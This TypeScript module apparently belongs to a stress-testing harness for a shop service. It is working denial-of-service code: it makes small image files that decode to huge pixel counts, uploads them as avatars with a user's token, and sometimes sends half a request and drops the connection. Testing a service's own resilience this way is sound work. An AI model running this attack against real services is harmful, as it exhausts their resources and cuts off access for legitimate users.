import { sleep } from '@tokri/shop-client';
import sharp from 'sharp';
import { openSocket, rawCall, readAnswers, statusesIn } from '../target';
import type { Attack } from './attack';

const BOUNDARY = 'hostile-boundary';

const multipart = (bytes: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(
      `--${BOUNDARY}\r\ncontent-disposition: form-data; name="avatar"; filename="me.jpg"\r\n` +
        'content-type: image/jpeg\r\n\r\n',
    ),
    bytes,
    Buffer.from(`\r\n--${BOUNDARY}--\r\n`),
  ]);

/** A picture of some kilobytes with many megapixels. */
const flat = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#7a5230' } });
const makeBombs = async (): Promise<Buffer[]> => [
  await flat(7_000, 5_700).avif({ quality: 1, effort: 0 }).toBuffer(),
  await flat(12_000, 12_000).png({ compressionLevel: 9 }).toBuffer(),
  (await flat(3_000, 3_000).webp({ quality: 1 }).toBuffer()).subarray(0, 200),
];

/** Pictures that cost much memory and time, and uploads that never end, from one account. */
export async function createPictureAttack(): Promise<Attack> {
  const bombs = await makeBombs();
  return {
    name: 'pictures',
    concurrency: 3,
    pauseMs: 1_500,
    async round(target) {
      const body = multipart(bombs[Math.floor(Math.random() * bombs.length)]!);
      const request = rawCall(target, 'uploadAvatar', body, {
        'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
        authorization: `Bearer ${target.tokens[0]}`,
      });
      const socket = await openSocket(target);
      const answers = readAnswers(socket, 20_000);
      if (Math.random() < 0.7) socket.write(request);
      else {
        socket.write(request.subarray(0, request.length / 2));
        await sleep(4_000);
        socket.destroy();
      }
      return statusesIn(await answers);
    },
  };
}
